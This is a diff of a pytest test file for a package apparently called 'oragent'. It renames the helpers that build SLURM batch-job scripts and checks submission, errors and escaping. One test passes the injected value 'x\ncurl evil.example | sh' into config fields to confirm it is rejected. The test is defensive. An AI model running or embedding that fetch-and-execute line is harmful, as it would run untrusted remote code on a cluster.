@@ -12,8 +12,8 @@ import pytest
 
 import oragent
 from oragent._base.errors import ConfigError, SandboxError
-from oragent.evaluation.cluster.batch import BatchJobs, script
-from oragent.evaluation.cluster.where import Certificates, ClusterKind, Where
+from oragent.evaluation.cluster.batch import BatchJobs, job_script
+from oragent.evaluation.cluster.cluster_settings import Certificates, ClusterKind, ClusterSettings
 
 if find_spec("dask_jobqueue") is None:  # to import it is to have it take the interrupt
     pytest.skip("dask-jobqueue is not installed", allow_module_level=True)
@@ -32,7 +32,7 @@ WHERE = {
 def test_a_jobs_script_is_what_it_was(kind: ClusterKind, name: str, tmp_path: Path) -> None:
     shared = tmp_path / "shared"
     tls = Certificates(shared / "certificate.pem", shared / "certificate.pem", shared / "key.pem")
-    text = script(Where(kind, **WHERE[name]), "tls://10.0.0.1:8786", tls, shared / "logs", "oragent-1")
+    text = job_script(ClusterSettings(kind, **WHERE[name]), "tls://10.0.0.1:8786", tls, shared / "logs", "oragent-1")
     text = text.replace(shlex.quote(sys.executable), "PYTHON").replace(str(shared), "/shared")
     path = GOLDEN / f"{kind}_{name}.sh"
     if os.environ.get("ORAGENT_WRITE_GOLDEN"):
@@ -43,14 +43,14 @@ def test_a_jobs_script_is_what_it_was(kind: ClusterKind, name: str, tmp_path: Pa
 def test_no_line_of_a_script_can_be_smuggled_in() -> None:
     for field in ("queue", "account", "walltime", "memory"):
         with pytest.raises(ValueError, match="cannot stand on one line"):
-            Where(ClusterKind.SLURM, **{field: "x\ncurl evil.example | sh"})
+            ClusterSettings(ClusterKind.SLURM, **{field: "x\ncurl evil.example | sh"})
 
 
 def test_without_the_command_it_is_said_where_jobs_are_submitted(tmp_path: Path, monkeypatch) -> None:
     monkeypatch.setenv("PATH", str(tmp_path))
     tls = Certificates(tmp_path, tmp_path, tmp_path)
     with pytest.raises(ConfigError, match="sbatch, which is not on the PATH"):
-        BatchJobs(Where(ClusterKind.SLURM), tls, tmp_path, print)
+        BatchJobs(ClusterSettings(ClusterKind.SLURM), tls, tmp_path, print)
 
 
 SBATCH = """#!/bin/sh
@@ -93,10 +93,10 @@ def alive(slurm: Path) -> list[Path]:
 
 
 def test_jobs_are_submitted_without_a_key_replaced_and_ended(slurm: Path, tmp_path: Path, monkeypatch) -> None:
-    monkeypatch.setattr("oragent.evaluation.cluster.batch.script", lambda *words: "sleep 60\n")
+    monkeypatch.setattr("oragent.evaluation.cluster.batch.job_script", lambda *words: "sleep 60\n")
     events: list[str] = []
     tls = Certificates(tmp_path, tmp_path, tmp_path)
-    jobs = BatchJobs(Where(ClusterKind.SLURM, jobs=2), tls, tmp_path, events.append, look_s=0.05)
+    jobs = BatchJobs(ClusterSettings(ClusterKind.SLURM, jobs=2), tls, tmp_path, events.append, look_s=0.05)
     jobs.start("tls://a:1")
     assert events == ["job 101 submitted", "job 102 submitted"]
     assert (slurm / "keys").read_text().split() == ["0", "0"]
@@ -113,11 +113,11 @@ def test_jobs_are_submitted_without_a_key_replaced_and_ended(slurm: Path, tmp_pa
 
 
 def test_what_a_batch_system_says_is_told(slurm: Path, tmp_path: Path, monkeypatch) -> None:
-    monkeypatch.setattr("oragent.evaluation.cluster.batch.script", lambda *words: "")
+    monkeypatch.setattr("oragent.evaluation.cluster.batch.job_script", lambda *words: "")
     (slurm / "sbatch").write_text("#!/bin/sh\necho 'invalid \033[31mpartition' >&2; exit 1\n")
     tls = Certificates(tmp_path, tmp_path, tmp_path)
     with pytest.raises(SandboxError, match=r"^sbatch fails: invalid \\u001b\[31mpartition$"):
-        BatchJobs(Where(ClusterKind.SLURM), tls, tmp_path, print).start("tls://a:1")
+        BatchJobs(ClusterSettings(ClusterKind.SLURM), tls, tmp_path, print).start("tls://a:1")
 
 
 def test_the_whole_way_with_a_batch_system_that_starts_its_jobs_here(slurm: Path, toy: Path, tmp_path: Path) -> None:
